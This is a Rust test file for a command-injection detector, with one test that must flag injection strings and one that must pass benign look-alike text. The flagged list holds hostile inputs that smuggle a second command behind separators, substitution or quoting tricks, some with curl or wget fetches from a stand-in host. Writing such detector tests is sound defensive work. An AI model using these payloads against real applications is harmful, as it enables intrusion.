use super::super::class::Class;
use super::super::place::Place;
use super::super::test_hits::hits_in;
use super::*;

fn score(text: &str) -> u16 {
    let text = text.to_ascii_lowercase();
    hits_in(&text, Place::Argument, detect).score(Class::Rce)
}

#[test]
fn commands_behind_separators_are_found() {
    for text in [
        ";id",
        "|id",
        "x; ls -la",
        "10.0.0.1 && whoami",
        "10.0.0.1|netstat -an",
        "x || ping -c 3 10.0.0.1",
        "x & uname -a",
        "x\nwget http://x.test/a",
        "$(whoami)",
        "x$(sleep 9)",
        "`id`",
        "x`uname -a`",
        "; c''at /e''tc/hosts",
        "; w\\h\\oami",
        "; who$@ami",
        "|/usr/bin/id",
        "; cat</tmp/x",
        "cat /srv/x",
        "curl http://x.test/a",
        "& dir c:\\",
        "| type c:\\x",
        ";{ls,-la}",
        "<(curl http://x.test)",
        "/b?n/c?t x",
        "/bi[n]/sh",
        "sudo id -a",
    ] {
        assert!(score(text) >= 5, "{text}");
    }
}

#[test]
fn words_and_code_in_texts_are_clean() {
    for text in [
        "cats & dogs; find out more",
        "salt & pepper",
        "yes; no; maybe",
        "a|b|c",
        "| id | name | date |",
        "| find | finds things | sort |",
        "run `ls -la` to see what is there",
        "the `id` column",
        "- **`true`**: a literal",
        "`spawn()`, `join()` which return a handle",
        "AT&T; Procter & Gamble",
        "echo chamber",
        "cat food",
        "head of sales",
        "who am i",
        "ls 300 lexus",
        "nc 8000 controller",
        "time flies; history repeats",
        "npm run build && node bench.js",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "text/html;q=0.9, */*;q=0.8",
        "$(document).ready",
        "costs $5; sort of",
        "https://example.org/a?b=1&id=2&sort=date;page=3",
        "git+https://example.org/a.git",
    ] {
        assert!(score(text) < 5, "{text}");
    }
}
